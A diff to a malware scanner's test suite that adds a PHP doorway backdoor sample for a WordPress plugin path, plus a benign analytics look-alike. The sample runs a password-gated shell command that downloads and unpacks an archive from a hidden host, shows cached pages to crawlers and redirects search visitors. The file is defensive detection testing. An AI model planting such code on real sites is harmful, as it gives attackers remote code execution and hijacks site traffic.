@@ -193,6 +193,25 @@ if (isset($_POST) and count($_POST) > 0) {
 }
 `,
   ],
+  [
+    'a doorway caching crawlers\' pages in a hidden folder of the temporary one, search visitors sent to a landing page, updated by a shell download from a hidden host (H51)',
+    '/srv/www/wp-content/plugins/drno/d.php',
+    `<?php
+$host = str_replace('www.', '', $_SERVER['HTTP_HOST'] ?? '');
+$key = md5($host);
+$dir = sys_get_temp_dir() . '/.' . $key . '/';
+$src = base64_decode('${b64('pages.example.org')}');
+if (($_POST['k'] ?? '') !== '' && md5($_POST['p'] ?? '') === 'e5e4570182820af0a183ce1520afe43b') {
+  echo shell_exec("cd " . sys_get_temp_dir() . "; wget http://$src/arc/$key.tgz -O 1.tgz; tar -xzf 1.tgz; rm -f 1.tgz");
+  exit;
+}
+$page = $dir . md5($host . $_SERVER['REQUEST_URI']);
+if (is_file($page)) {
+  if (preg_match('#googlebot|bingbot|spider|crawler#i', $_SERVER['HTTP_USER_AGENT'])) { echo file_get_contents($page); exit; }
+  if (preg_match('#google|bing\\.com|yahoo#i', $_SERVER['HTTP_REFERER'])) { header('Location: http://' . $src . '/lp.php?d=' . $key); exit; }
+}
+`,
+  ],
 ];
 
 const LOOKALIKES: [string, string, string][] = [
@@ -344,6 +363,19 @@ import_package($xmlfile);
 unlink($xmlfile);
 `,
   ],
+  [
+    'an analytics plugin counting crawlers and search referrals into its own cache folder',
+    '/srv/www/wp-content/plugins/stats/track.php',
+    `<?php
+$kind = 'visit';
+if (preg_match('#googlebot|bingbot|spider|crawler#i', $_SERVER['HTTP_USER_AGENT'] ?? '')) $kind = 'bot';
+elseif (preg_match('#google\\.|bing\\.com|yahoo\\.#i', $_SERVER['HTTP_REFERER'] ?? '')) $kind = 'search';
+$file = WP_CONTENT_DIR . '/cache/stats/' . date('Y-m-d') . '.json';
+$c = is_file($file) ? json_decode(file_get_contents($file), true) : [];
+$c[$kind] = ($c[$kind] ?? 0) + 1;
+file_put_contents($file, json_encode($c), LOCK_EX);
+`,
+  ],
 ];
 
 const FAMILIES: [string, string, string][] = [
@@ -460,14 +492,14 @@ describe('scan: session 44 samples, the misses written again', () => {
       assert.equal(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every page', () => assert.equal(PAGES.length, 14));
+  it('ran every page', () => assert.equal(PAGES.length, 15));
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
       const r = scan(src, path);
       assert.notEqual(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 12));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 13));
 });
 
 describe('scan: families written from their published shapes (session 44)', () => {
